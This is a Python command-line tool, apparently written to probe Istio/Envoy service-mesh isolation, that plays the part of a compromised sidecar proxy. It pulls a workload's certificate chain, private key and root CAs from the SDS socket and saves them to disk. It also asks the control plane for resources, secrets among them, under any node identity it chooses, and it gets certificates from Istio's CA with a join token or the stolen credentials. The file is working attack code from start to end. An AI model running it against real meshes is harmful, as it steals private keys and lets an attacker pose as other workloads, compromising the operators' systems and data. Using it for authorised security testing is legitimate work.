#!/usr/bin/env python3
"""A compromised proxy, as a program: what it can take with what it holds.

In:    a socket on which a sidecar's secrets are served, or the control plane's address; names to ask for.
Out:   one line of JSON: what was given, or why not.
Never: uses anything but the public protocols (SDS, ADS, Istio's certificate service), by grpcio.
"""

import argparse
import json
import pathlib
import queue

import grpc

import wire

WITHIN = 10  # seconds for one call
QUIET = 3  # seconds without an answer: nothing more is coming
TYPES = {
    "secret": "envoy.extensions.transport_sockets.tls.v3.Secret",
    "listener": "envoy.config.listener.v3.Listener",
    "route": "envoy.config.route.v3.RouteConfiguration",
    "cluster": "envoy.config.cluster.v3.Cluster",
}
# envoy/extensions/transport_sockets/tls/v3/secret.proto and common.proto
SECRET_NAME, SECRET_CERTIFICATE, SECRET_VALIDATION = 1, 2, 4
CERTIFICATE_CHAIN, CERTIFICATE_KEY, TRUSTED_CA, INLINE_BYTES, INLINE_STRING = 1, 2, 1, 2, 3
# envoy/service/discovery/v3/discovery.proto
REQUEST_NODE, REQUEST_NAMES, REQUEST_TYPE, RESPONSE_RESOURCES, ANY_VALUE = 2, 3, 4, 2, 2
NODE_ID, NODE_CLUSTER, NODE_METADATA = 1, 2, 3
# istio.v1.auth.IstioCertificateService: ca.proto
CSR, VALIDITY, CHAIN = 1, 3, 1


def request(kind, names, node=b""):
    return wire.message((REQUEST_NODE, node), *((REQUEST_NAMES, name) for name in names),
                        (REQUEST_TYPE, f"type.googleapis.com/{TYPES[kind]}"))


def bidirectional(channel, method, first):
    """Opens a stream, says one thing, and gives what comes until it is quiet."""
    says = queue.Queue()
    says.put(first)
    call = channel.stream_stream(method)(iter(says.get, None), timeout=QUIET)
    try:
        for answer in call:
            yield from wire.all_of(answer, RESPONSE_RESOURCES)
    except grpc.RpcError as error:
        if error.code() != grpc.StatusCode.DEADLINE_EXCEEDED:
            raise
    finally:
        says.put(None)


def data_source(message, number):
    source = wire.one_of(message, number)
    return (wire.one_of(source, INLINE_BYTES) or wire.one_of(source, INLINE_STRING)).decode()


def steal(options):
    """A sidecar's own certificate, key and roots, from the socket that serves them."""
    taken = {}
    # A Unix socket has no authority of its own, and the path is none.
    authority = (("grpc.default_authority", "localhost"),)
    with grpc.insecure_channel(f"unix:{options.socket}", authority) as channel:
        for name in ("default", "ROOTCA"):
            stream = bidirectional(channel, "/envoy.service.secret.v3.SecretDiscoveryService/StreamSecrets",
                                   request("secret", [name]))
            secret = wire.one_of(next(stream), ANY_VALUE)
            certificate = wire.one_of(secret, SECRET_CERTIFICATE)
            if certificate:
                taken["chain"] = data_source(certificate, CERTIFICATE_CHAIN)
                taken["key"] = data_source(certificate, CERTIFICATE_KEY)
            else:
                taken["roots"] = data_source(wire.one_of(secret, SECRET_VALIDATION), TRUSTED_CA)
    for name, text in taken.items():
        path = options.out / f"{name}.pem"
        path.touch(0o600)
        path.write_text(text)
    return {"taken": sorted(taken)}


def channel_to(options):
    """A channel to the control plane, with the stolen certificate if there is one."""
    def read(path):
        return pathlib.Path(path).read_bytes() if path else None
    credentials = grpc.ssl_channel_credentials(read(options.roots), read(options.key), read(options.chain))
    name = (("grpc.ssl_target_name_override", "istiod.istio-system.svc"),)
    return grpc.secure_channel(options.control, credentials, name)


def ask(options):
    """Resources for a node, which need not be one's own."""
    metadata = dict(pair.split("=", 1) for pair in options.metadata)
    node = wire.message((NODE_ID, options.node), (NODE_CLUSTER, "thief"),
                        (NODE_METADATA, wire.struct(metadata)))
    with channel_to(options) as channel:
        resources = list(bidirectional(
            channel, "/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources",
            request(options.type, options.names, node)))
    values = [wire.one_of(resource, ANY_VALUE) for resource in resources]
    return {"given": sorted(wire.one_of(value, 1).decode() for value in values),
            "private_keys": sum(b"PRIVATE KEY" in value for value in values)}


def certify(options):
    """A certificate for a request, by a join token or by the stolen certificate."""
    metadata = []
    if options.token:
        metadata.append(("authorization", "Bearer " + pathlib.Path(options.token).read_text().strip()))
    body = wire.message((CSR, pathlib.Path(options.csr).read_bytes()), (VALIDITY, 3600))
    with channel_to(options) as channel:
        create = channel.unary_unary("/istio.v1.auth.IstioCertificateService/CreateCertificate")
        answer = create(body, metadata=metadata, timeout=WITHIN)
    chain = [one.decode() for one in wire.all_of(answer, CHAIN)]
    if options.out:
        options.out.write_text("".join(chain))
    return {"chain": len(chain)}


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    verbs = parser.add_subparsers(required=True)
    one = verbs.add_parser("steal")
    one.add_argument("socket")
    one.add_argument("out", type=pathlib.Path)
    one.set_defaults(run=steal)
    for name, run in (("ask", ask), ("certify", certify)):
        one = verbs.add_parser(name)
        one.add_argument("--control", required=True)
        one.add_argument("--roots", required=True)
        one.add_argument("--chain")
        one.add_argument("--key")
        one.set_defaults(run=run)
        if run is ask:
            one.add_argument("--node", required=True)
            one.add_argument("--metadata", nargs="*", default=[])
            one.add_argument("--type", choices=TYPES, default="secret")
            one.add_argument("names", nargs="*")
        else:
            one.add_argument("--csr", required=True)
            one.add_argument("--token", help="a file")
            one.add_argument("--out", type=pathlib.Path)
    options = parser.parse_args()
    try:
        answer = options.run(options)
    except grpc.RpcError as error:
        answer = {"refused": f"{error.code().name}: {error.details()}"}
    print(json.dumps(answer))


if __name__ == "__main__":
    main()
